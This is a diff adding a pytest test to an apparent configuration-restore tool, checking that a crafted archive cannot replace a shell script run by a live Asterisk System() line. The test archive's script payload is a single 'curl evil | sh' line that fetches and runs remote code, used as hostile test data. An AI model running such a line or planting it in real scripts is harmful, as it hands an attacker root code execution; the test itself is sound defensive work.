@@ -7,6 +7,8 @@ from __future__ import annotations
 import pytest
 
 from flexgit.restore import commands
+from tests.conftest import Env
+from tests.restore.crafted import craft, exported
 
 EXT = "system/etc/asterisk/extensions.conf"
 LIVE_EXT = b"[from-internal]\nexten => 2001,1,Dial(PJSIP/2001)\n same => n,Hangup()\n"
@@ -91,3 +93,22 @@ def test_any_change_to_a_file_that_decides_what_runs(name: str, live: bytes,
     path = "system/etc/asterisk/" + name
     assert commands.added(path, new, live)
     assert commands.added(path, live, live) == []
+
+
+def test_a_program_the_live_configuration_starts_is_privileged(env: Env) -> None:
+    """Replacing the script a live `System()` runs is as good as a new
+    System() line: the script is reviewed like a root helper."""
+    script = env.root / "etc/asterisk/scripts/notify.sh"
+    script.parent.mkdir()
+    script.write_bytes(b"#!/bin/sh\nlogger voicemail\n")
+    script.chmod(0o755)
+    ext = env.root / "etc/asterisk/extensions.conf"
+    ext.write_bytes(ext.read_bytes() + b"[notify]\nexten => s,1,System(/etc/asterisk/scripts/"
+                    b"notify.sh ${ARG1})\n")
+    bad = craft(exported(env, env.tmp / "out"), env.tmp / "script.flx",
+                files={"system/etc/asterisk/scripts/notify.sh": b"#!/bin/sh\ncurl evil | sh\n"})
+    r = env.run("-y", "restore", str(bad))
+    assert r.exit_code == 3, r.output
+    assert script.read_bytes() == b"#!/bin/sh\nlogger voicemail\n"
+    assert "warning: system/etc/asterisk/scripts/notify.sh was not restored: a file root runs " \
+        "that flexgit did not write" in r.output
